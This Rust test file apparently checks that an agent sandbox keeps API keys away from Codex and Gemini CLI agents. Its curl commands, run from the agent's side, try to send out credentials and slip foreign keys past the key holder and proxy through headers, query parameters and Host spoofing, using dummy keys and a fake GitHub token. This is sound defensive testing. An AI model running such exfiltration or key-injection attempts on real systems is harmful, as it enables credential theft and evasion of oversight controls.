//! The agent kinds beyond Claude Code (`agent.kind`), each from the attacker's side in a
//! launched bottle: the Codex CLI of `OpenAI` (`codex`) and Google's Gemini CLI (`gemini`), the
//! real CLIs from npm in the test agent image, talking to the testbed's stand-ins of their APIs
//! (`contrib/testbed/upstream/openai.js`, `gemini.js`) through the bottle's key holder.
//!
//! For each kind: the CLI completes a round trip and prints the stand-in's answer, and the
//! stand-in got the user's key on every request, never the agent's placeholder; the key is in
//! none of the agent's files, environments or command lines; a foreign key sent from the agent
//! to the API host (in the kind's header, as a bearer token, in the query) never reaches the
//! stand-in, through the holder or around it; a credential in a body to an allowed intercepted
//! host is refused by pipelock's DLP; and `stop` leaves nothing (the [`Bottle`] drop checks).

use std::process::Output;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::keys::places_holding;
use crate::support::{
    fingerprint, harness, resources_table, unique_name, Bottle, Harness, Workspace, AGENT_IMAGE,
    FORWARDED_ENV, FORWARDED_VALUE, PRIVATE_ALIAS,
};

/// A GitHub token shape pipelock's DLP knows: the credential every kind's DLP check sends
/// besides one shaped like the kind's own key.
const GITHUB_TOKEN: &str = "ghp_0123456789abcdefghijklmnopqrstuvwxyz";
const PROMPT: &str = "Say hello to the bottle.";
/// Generous: a run takes a few seconds here, most of it the CLI's own start-up.
const CLI_LIMIT: Duration = Duration::from_secs(120);

/// One agent kind as these tests see it.
struct Kind {
    /// `agent.kind` in the manifest.
    name: &'static str,
    /// The variable the manifest forwards and `start` reads the user's key from; the agent
    /// gets a placeholder in it.
    key_env: &'static str,
    /// The user's key: shaped like a real one, so that pipelock's DLP would name it.
    key: &'static str,
    /// Someone else's key of the same shape.
    foreign: &'static str,
    /// The API host the holder answers for (its stand-in is on the tests' internet).
    host: &'static str,
    /// The header the CLI puts its key in.
    key_header: &'static str,
    /// The CLI's one-shot command, before the prompt: no TTY, no approval prompt.
    command: &'static [&'static str],
    /// What the stand-in answers every prompt with (`ANSWER` in its module).
    answer: &'static str,
    /// A path on the API that needs a key, for requests the tests make by hand.
    probe: &'static str,
    /// Query parameters that can carry a key on this API.
    key_params: &'static [&'static str],
}

const CODEX: Kind = Kind {
    name: "codex",
    key_env: "OPENAI_API_KEY",
    key: "sk-proj-bbE2eDummyOpenAiKeyNotReal000000000000-5b8e",
    foreign: "sk-proj-bbE2eForeignKeyOfAnAttacker0000000000-c3a1",
    host: "api.openai.com",
    key_header: "authorization",
    // --skip-git-repo-check: the workspace need not be a git repository.
    command: &["codex", "exec", "--skip-git-repo-check"],
    answer: "Hello from the bot-bottle OpenAI stand-in.",
    probe: "/v1/models",
    key_params: &["api_key", "key"],
};

const GEMINI: Kind = Kind {
    name: "gemini",
    key_env: "GEMINI_API_KEY",
    // AIza and 35 more: the shape of a Google API key.
    key: "AIzaSyBbE2eDummyGeminiKeyNotReal0000000",
    foreign: "AIzaSyBbE2eForeignKeyOfAnAttacker000000",
    host: "generativelanguage.googleapis.com",
    key_header: "x-goog-api-key",
    command: &["gemini", "-p"],
    answer: "Hello from the bot-bottle Gemini stand-in.",
    probe: "/v1beta/models/gemini-stand-in:countTokens",
    key_params: &["key"],
};

/// The manifest of a bottle of `kind` that forwards its key variable (and the usual
/// forwarded variable, the search's control), with the harness's egress policy.
fn manifest(name: &str, kind: &Kind) -> String {
    format!(
        "name = \"{name}\"\n\n[agent]\nkind = \"{}\"\nimage = \"{AGENT_IMAGE}\"\n\
         command = [\"sleep\", \"infinity\"]\nenv = [\"{FORWARDED_ENV}\", \"{}\"]\n\n{}\
         [egress]\nallowlist = [\"upstream.bottle.test\", \"passthrough.bottle.test\", \"{PRIVATE_ALIAS}\"]\n\
         tls_passthrough_domains = [\"passthrough.bottle.test\"]\n",
        kind.name,
        kind.key_env,
        resources_table()
    )
}

/// A launched bottle of `kind`, started with the user's key in its variable on `start`'s
/// command, as a user would, and the time the launch took.
fn launch<'h>(h: &'h Harness, kind: &Kind) -> (Bottle<'h>, Duration) {
    let name = unique_name(kind.name);
    let ws = Workspace::new(&name, &manifest(&name, kind));
    // Approved with the key in its variable, as `start` will have it: where the credential
    // comes from is part of what is approved.
    let approved = h
        .bot_bottle(&ws)
        .env(kind.key_env, kind.key)
        .args(["approve", "bottle.toml"])
        .output()
        .unwrap();
    assert!(
        approved.status.success(),
        "approve failed: {}",
        String::from_utf8_lossy(&approved.stderr)
    );
    let started = Instant::now();
    let out: Output = h
        .bot_bottle(&ws)
        .env(kind.key_env, kind.key)
        .args(["start", "-y", "--detach", "--json", "bottle.toml"])
        .output()
        .unwrap();
    let took = started.elapsed();
    (Bottle::started(h, &name, ws, out), took)
}

/// The kind's CLI with `prompt`, as the agent user in the agent, cut off by `timeout` inside
/// the container; its stdout and how long it took.
fn ask(bottle: &Bottle, kind: &Kind, prompt: &str) -> (String, Duration) {
    let limit = CLI_LIMIT.as_secs().to_string();
    let mut argv = vec!["timeout", limit.as_str()];
    argv.extend(kind.command);
    argv.push(prompt);
    let started = Instant::now();
    let out = bottle
        .h
        .engine
        .exec(&bottle.agent(), &engine::ExecSpec::new(argv))
        .unwrap();
    let took = started.elapsed();
    assert_eq!(
        out.status, 0,
        "{} failed (124 is the time limit)\nstdout: {}\nstderr: {}",
        kind.name, out.stdout, out.stderr
    );
    (out.stdout, took)
}

/// `curl` in the agent: the HTTP status of `args`, or `000` when no answer came.
fn status(bottle: &Bottle, args: &str) -> String {
    bottle
        .agent_sh(&format!(
            "curl -sS -m 20 -o /dev/null -w '%{{http_code}}' {args}"
        ))
        .stdout
}

/// The header line that carries `key` the way the kind's CLI sends it.
fn key_header(kind: &Kind, key: &str) -> String {
    if kind.key_header == "authorization" {
        format!("authorization: Bearer {key}")
    } else {
        format!("{}: {key}", kind.key_header)
    }
}

/// Whether a request the stand-in logged carried the credential `secret`.
fn carried(request: &Value, secret: &str) -> bool {
    request["credentials"]
        .as_array()
        .is_some_and(|c| c.contains(&json!(fingerprint(secret))))
}

fn the_kind_keeps_its_guarantees(kind: &Kind) {
    let Some(h) = harness() else { return };
    let (bottle, launch_took) = launch(&h, kind);
    let placeholder = bottle
        .agent_sh(&format!("printf '%s' \"${}\"", kind.key_env))
        .stdout;
    assert!(
        placeholder.starts_with("bot-bottle-placeholder-"),
        "the agent's {} is {placeholder:?}",
        kind.key_env
    );

    // (a) The real CLI's round trip, through the holder, with the user's key on every request.
    let (said, took) = ask(&bottle, kind, PROMPT);
    eprintln!(
        "{}: launch {launch_took:.1?}, first answer {took:.1?} after it",
        kind.name
    );
    assert_eq!(said.trim(), kind.answer, "{} printed {said:?}", kind.name);
    // What else the CLI tried to reach: refused by the allowlist (its start-up calls must fail
    // quietly, which the answer above shows) unless the kind switches them off. Reported, so
    // that a new call after a version bump is seen.
    let refused: Vec<String> = bottle
        .proxy_events()
        .iter()
        .filter(|e| e["event"] == "blocked")
        .filter_map(|e| {
            e["target"]
                .as_str()
                .or(e["url"].as_str())
                .map(str::to_owned)
        })
        .collect();
    eprintln!("{}: the proxy refused {refused:?}", kind.name);
    let requests = bottle.upstream_requests();
    let to_api: Vec<&Value> = requests.iter().filter(|r| r["host"] == kind.host).collect();
    assert!(
        to_api
            .iter()
            .any(|r| r["prompt"] == PROMPT && r["stream"] == true && r["status"] == 200),
        "no streamed answer to {PROMPT:?}: {requests:#?}"
    );
    for r in &to_api {
        assert_eq!(
            r["credentials"],
            json!([fingerprint(kind.key)]),
            "a request without (only) the user's key: {r:#}"
        );
    }
    assert!(
        !requests.iter().any(|r| carried(r, &placeholder)),
        "the placeholder reached the upstream: {requests:#?}"
    );
    the_api_went_past_the_sidecar(&bottle, kind);

    // (b) The key is nowhere in the agent; the forwarded variable shows the search finds what
    // is there.
    let found = places_holding(&h, &bottle.agent(), kind.key);
    assert!(found.is_empty(), "the agent holds the key: {found:?}");
    let control = places_holding(&h, &bottle.agent(), FORWARDED_VALUE);
    assert!(
        control.iter().any(|p| p.contains("environ")),
        "the search misses an environment: {control:?} ({FORWARDED_ENV})"
    );

    // (c) No foreign key reaches the API.
    no_foreign_key_reaches_the_api(&bottle, kind, &placeholder);

    // (d) A credential in a body to an allowed, intercepted host: pipelock's DLP refuses it.
    for secret in [kind.foreign, GITHUB_TOKEN] {
        let got = status(
            &bottle,
            &format!("-X POST --data 'token={secret}' https://upstream.bottle.test/echo"),
        );
        assert_eq!(got, "403", "a body holding {secret} went through");
    }
    let events = bottle.proxy_events();
    let dlp = events
        .iter()
        .filter(|e| e["event"] == "blocked" && e["scanner"] == "body_dlp")
        .count();
    assert!(dlp >= 2, "no two body_dlp blocks in {events:#?}");
    assert!(
        !bottle
            .upstream_requests()
            .iter()
            .any(|r| r["path"] == "/echo"),
        "a body with a credential reached the upstream"
    );
    // (e) `stop` leaves nothing: the drop checks.
}

/// The sidecar saw no tunnel to the API (the holder reaches it, not pipelock), and no log of
/// the bottle's nor bot-bottle's own output holds the key.
fn the_api_went_past_the_sidecar(bottle: &Bottle, kind: &Kind) {
    let to_api = bottle.proxy_events_naming(kind.host);
    assert!(
        to_api.is_empty(),
        "the sidecar saw {}: {to_api:#?}",
        kind.host
    );
    for container in [bottle.proxy(), bottle.key_holder()] {
        let log = bottle.h.engine.logs(&container).unwrap();
        assert!(
            !log.stdout.contains(kind.key) && !log.stderr.contains(kind.key),
            "the key is in the log of {container}"
        );
    }
    let printed = [&bottle.start_output.stdout, &bottle.start_output.stderr]
        .map(|b| String::from_utf8_lossy(b).into_owned())
        .concat();
    assert!(!printed.contains(kind.key), "bot-bottle printed the key");
}

fn no_foreign_key_reaches_the_api(bottle: &Bottle, kind: &Kind, placeholder: &str) {
    let before = bottle.upstream_requests().len();
    let url = format!("https://{}{}", kind.host, kind.probe);
    let post = "-H 'content-type: application/json' --data '{}'";
    let mut attempts = vec![
        (
            format!("a foreign key in {}", kind.key_header),
            format!("{post} -H '{}' {url}", key_header(kind, kind.foreign)),
        ),
        (
            "a foreign bearer token".to_owned(),
            format!("{post} -H 'authorization: Bearer {}' {url}", kind.foreign),
        ),
        (
            "the placeholder with a foreign key in another header".to_owned(),
            format!(
                "{post} -H '{}' -H 'x-api-key: {}' {url}",
                key_header(kind, placeholder),
                kind.foreign
            ),
        ),
        (
            "another Host than the name the holder verified".to_owned(),
            format!(
                "{post} -H '{}' -H 'host: upstream.bottle.test' {url}",
                key_header(kind, placeholder)
            ),
        ),
    ];
    for param in kind.key_params {
        attempts.push((
            format!("a foreign key in the query's {param}="),
            format!("{post} '{url}?{param}={}'", kind.foreign),
        ));
        attempts.push((
            format!("the placeholder with a foreign key in the query's {param}="),
            format!(
                "{post} -H '{}' '{url}?{param}={}'",
                key_header(kind, placeholder),
                kind.foreign
            ),
        ));
    }
    for (what, args) in &attempts {
        let got = status(bottle, args);
        assert!(
            got == "403" || got == "421",
            "{what} to {}: {got} (the holder must refuse it)",
            kind.host
        );
    }
    // Around the holder: through the proxy, which refuses the host whatever the key.
    let proxy = format!("http://{}:8888", bottle.proxy());
    let through = bottle.agent_sh(&format!(
        "curl -sS -m 20 -o /dev/null -w '%{{http_connect}}' --noproxy '' -x {proxy} -H 'authorization: Bearer {}' {url}",
        kind.foreign
    ));
    assert_eq!(
        through.stdout, "403",
        "CONNECT to {}: {}",
        kind.host, through.stderr
    );
    let requests = bottle.upstream_requests();
    let reached: Vec<&Value> = requests
        .iter()
        .filter(|r| carried(r, kind.foreign))
        .collect();
    assert!(
        reached.is_empty(),
        "a foreign key reached the API: {reached:#?}"
    );
    assert_eq!(
        requests.len(),
        before,
        "the stand-in got requests: {:#?}",
        &requests[before..]
    );
}

#[test]
fn codex_in_a_bottle_answers_and_keeps_the_key_outside() {
    the_kind_keeps_its_guarantees(&CODEX);
}

#[test]
fn gemini_in_a_bottle_answers_and_keeps_the_key_outside() {
    the_kind_keeps_its_guarantees(&GEMINI);
}
